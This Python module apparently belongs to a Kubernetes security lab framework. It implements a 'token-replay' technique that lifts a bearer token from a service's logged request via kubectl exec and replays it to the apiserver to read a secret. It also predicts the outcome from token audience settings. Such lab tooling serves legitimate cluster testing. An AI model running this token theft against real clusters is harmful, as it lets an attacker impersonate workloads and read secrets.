"""Call the apiserver with a token that a pod sent to another service.

A service can authenticate its callers by their service account tokens. If such a token is also
valid for the apiserver, the service and everybody who reads its logs can act as the caller. The
attacker needs the token from that service. They read a secret with it. A token with the service
as its only audience stops it, because the apiserver refuses it.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from typing import TYPE_CHECKING

from labkit import agents
from labkit.cluster import Component, Environment
from labkit.errors import ProbeTimeout
from labkit.model import Claim, Foothold, Model
from labkit.model.decision import Action, Caller
from labkit.model.rights import service_account
from labkit.model.workloads import audience_in
from labkit.techniques._lib.api.access import CHANNEL, apiserver_of, may_all
from labkit.techniques._lib.api.tokens import NAME, NAMESPACE, new_token_is_known, present
from labkit.techniques._lib.technique import (
    COPIED_CREDENTIAL,
    SECRETS,
    Prediction,
    SentRequest,
    Technique,
)
from labkit.techniques._lib.verdict import Setting, Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

SENDER, RECEIVER = "reporter", "collector"
ACTION = Action("get", "secrets", namespace=NAMESPACE, name=NAME)


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict from the audience of the token and the rights of its account."""
    apiserver, audience = (
        apiserver_of(model.environment),
        audience_in(model.environment, NAMESPACE, SENDER),
    )
    if audience is None:
        return Prediction(False, (f"{NAMESPACE}/{SENDER} shows no token",))
    if not _takes(apiserver, audience.value):
        own = apiserver.given("api-audiences") or apiserver.setting("service-account-issuer")
        said = f"the token is for {audience.value}: {audience.source}"
        return Prediction(False, (said, f"the apiserver is {own.value}: {own.source}"))
    account = service_account(NAMESPACE, SENDER, audience.source)
    return may_all(model, account, [ACTION])


def requests(model: Model, foothold: Foothold) -> Sequence[SentRequest]:
    """Return the request for the secret; with a token for another audience, as nobody."""
    audience = audience_in(model.environment, NAMESPACE, SENDER)
    if audience is None:
        return []
    if _takes(apiserver_of(model.environment), audience.value):
        return [SentRequest(service_account(NAMESPACE, SENDER, audience.source), ACTION)]
    other = Claim("required", f"the token is for {audience.value}", audience.source)
    return [SentRequest(Caller("", frozenset(), other), ACTION)]


def _takes(apiserver: Component, audience: str) -> bool:
    """Say whether an apiserver takes tokens for an audience; without one, they are for it."""
    own = apiserver.given("api-audiences") or apiserver.setting("service-account-issuer")
    return not audience or audience in own.value.split(",")


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Take the token from the log of the receiving service, and ask for a secret with it."""
    return present(
        lab,
        TECHNIQUE.name,
        foothold,
        _received(lab),
        f"the token that {NAMESPACE}/{SENDER} showed to {NAMESPACE}/{RECEIVER}",
        lambda: new_token_is_known(lab, foothold, SENDER),
    )


def _received(lab: Lab) -> str:
    """Return the token of the next request that the service logs."""
    program = agents.argv("next_request")
    logged = lab.kubectl("exec", f"--namespace={NAMESPACE}", RECEIVER, "--", *program, check=False)
    found = re.search(r"^Authorization: Bearer (\S+)\s*$", logged.text, re.MULTILINE)
    if logged.exit_code or found is None:
        raise ProbeTimeout(f"{NAMESPACE}/{RECEIVER} received no token")
    return found[1]


def _settings(env: Environment) -> list[Setting]:
    audience = audience_in(env, NAMESPACE, SENDER)
    if audience is None:
        return []
    whom = audience.value or "the apiserver"
    return [(f"for whom {SENDER}'s token is", whom, str(audience.source))]


TECHNIQUE = Technique(
    name="token-replay",
    title="Show the apiserver a token that was meant for another service",
    footholds=(COPIED_CREDENTIAL,),
    grants=(SECRETS,),
    about=CHANNEL,
    properties=("authorization",),
    attack=("T1550.001", "T1528"),
    stride=("spoofing", "elevation of privilege"),
    cwe=("CWE-294", "CWE-522"),
    sources=(
        "https://kubernetes.io/docs/tasks/configure-pod-container/configure-service-account/"
        "#launch-a-pod-using-service-account-token-projection",
        "https://attack.mitre.org/techniques/T1550/001/",
    ),
    predict=predict,
    execute=execute,
    requests=requests,
    settings=_settings,
)
